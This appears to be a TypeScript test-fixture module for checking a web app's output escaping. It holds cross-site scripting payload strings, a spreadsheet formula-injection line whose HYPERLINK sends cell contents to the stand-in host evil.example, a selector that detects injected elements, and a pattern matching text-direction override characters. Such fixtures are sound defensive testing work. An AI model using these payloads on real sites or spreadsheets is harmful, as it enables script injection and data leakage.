/** What somebody would type who wants a browser of others to run it. `zmRan` is nobody's function: elements alone betray it. */
export const HOSTILE = `"'><img src=x onerror=zmRan(1)></script></style></title><script>zmRan(2)</script><svg onload=zmRan(3)>`
/** The same for fields of few characters. */
export const HOSTILE_SHORT = '<img src=x onerror=zmRan(4)>'
/** A line that a spreadsheet would take for a formula. */
export const FORMULA = `=HYPERLINK("https://evil.example?"&A1,"x")${HOSTILE_SHORT}`

/** An element that only such a text could have made. */
export const FOREIGN_ELEMENT = '[onerror],[onload],[onclick],img[src="x"],script:not([nonce]):not([src^="/_next/"])'

/** Marks that turn the direction of writing: a name that ends in one reads backwards what stands behind it. */
export const TURN = '\u202E'
export const TURNING = /[\u202A-\u202E\u2066-\u2069]/
